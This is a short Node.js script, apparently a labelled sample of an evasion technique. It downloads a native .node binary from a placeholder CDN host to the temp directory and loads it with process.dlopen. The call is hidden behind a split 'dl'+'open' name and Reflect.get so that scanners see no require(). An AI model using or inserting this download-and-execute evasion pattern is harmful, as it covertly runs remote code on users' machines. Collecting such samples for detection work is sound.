// Evasion: loads native code: a shared object downloaded to the temp dir is
// loaded with process.dlopen, reached through Reflect.get under a split name,
// so no require() of a .node file appears.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

async function main() {
  const res = await fetch('https://cdn.example.io/bin/accel-linux-x64.node');
  const so = path.join(os.tmpdir(), 'accel.node');
  fs.writeFileSync(so, Buffer.from(await res.arrayBuffer()));
  const load = Reflect.get(process, 'dl' + 'open');
  const mod = { exports: {} };
  load.call(process, mod, so);
  console.log(Object.keys(mod.exports));
}

main();
